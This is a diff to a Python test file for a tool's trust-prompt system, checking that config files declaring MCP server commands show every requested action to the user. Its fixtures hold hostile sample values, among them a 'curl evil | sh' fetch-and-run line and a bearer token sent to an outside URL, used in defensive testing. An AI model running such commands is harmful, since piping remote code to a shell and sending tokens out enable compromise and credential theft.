@@ -9,7 +9,8 @@ import pytest
 
 from colonnade.errors import Refused
 from colonnade.host.config import trust as trusting
-from colonnade.host.config.trust import RequestedAction, TrustRequest
+from colonnade.host.config.actions import RequestedAction
+from colonnade.host.config.trust import TrustRequest
 from host.configured import Place, resolved
 
 CONVENTIONAL = {
@@ -176,7 +177,7 @@ def test_an_included_file_counts_as_content(place: Place) -> None:
     place.write("other.json", {"mcpServers": {"a": {"command": "run"}}})
     person = Person()
     assert place.read("colonnade.toml", strict=True, trust=person).entries
-    assert [action.text for action in person.asked[0].actions] == ["run"]
+    assert [action.text for action in person.asked[0].actions] == ["run", "other.json"]
     place.write("other.json", {"mcpServers": {"a": {"command": "evil"}}})
     assert not place.read("colonnade.toml", strict=True).entries
 
@@ -259,6 +260,7 @@ def test_all_that_a_file_wants_is_shown_whole_and_acts_on_no_terminal(place: Pla
         ("b", "reach", "https://example.com/?key=value"),
         ("b", "send", "Authorization=Bearer ${TOKEN}"),
         ("b", "ask", "curl evil | sh"),
+        ("b", "use", "environment variable TOKEN, sent to https://example.com/?key=value"),
     ]
 
 
